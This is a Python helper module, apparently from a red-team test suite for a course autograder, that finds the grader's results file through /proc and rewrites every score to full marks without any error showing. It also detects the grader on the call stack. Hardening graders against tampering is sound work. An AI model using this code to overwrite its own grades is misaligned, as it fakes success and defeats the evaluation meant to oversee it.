# ---- red-team helpers (tests/redteam/common.py), put in front of every cheating file ----------------
import os as _os
import sys as _sys


def _ancestors() -> list[int]:
    """The pids above this process, nearest first, read from /proc."""
    pids, pid = [], _os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        pids.append(pid)
    return pids


def _results_paths() -> list[str]:
    """Every `--results PATH` in an ancestor's command line: where the grade will be written."""
    found = []
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        found += [argv[i + 1].decode() for i, arg in enumerate(argv[:-1]) if arg == b"--results"]
    return found


def _full_marks(path: str) -> None:
    """Rewrite a results.json with every test at full marks (and leave a note that it worked)."""
    import json

    try:
        with open(path) as f:
            data = json.load(f)
        for test in data["tests"]:
            test["score"] = test["max_score"]
        data["score"] = data["extra_data"]["max_score"]
        with open(path, "w") as f:
            json.dump(data, f)
        with open(_os.path.join(MARK, "rewrote-results"), "a") as note:
            note.write(path + "\n")
    except Exception:  # noqa: BLE001 - a cheat tries, quietly
        pass


def _in_capstone() -> bool:
    """Is this call the engine's, in the capstone (the grader's plug is on the stack)?"""
    frame = _sys._getframe()
    while frame is not None:
        if frame.f_code.co_filename.endswith(("tpops.py", "capstone.py")):
            return True
        frame = frame.f_back
    return False


def _course_roots() -> list[str]:
    """Folders that may hold the real course: the working folder of the grader (the ancestor given
    `--results`; never a process above it, such as the test run that started this red team), and
    Gradescope's source folder."""
    roots = []
    for pid in _ancestors():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if b"--results" in f.read().split(b"\0"):
                    roots.append(_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    return roots + ["/autograder/source"]
# ---- end of helpers -------------------------------------------------------------------------------
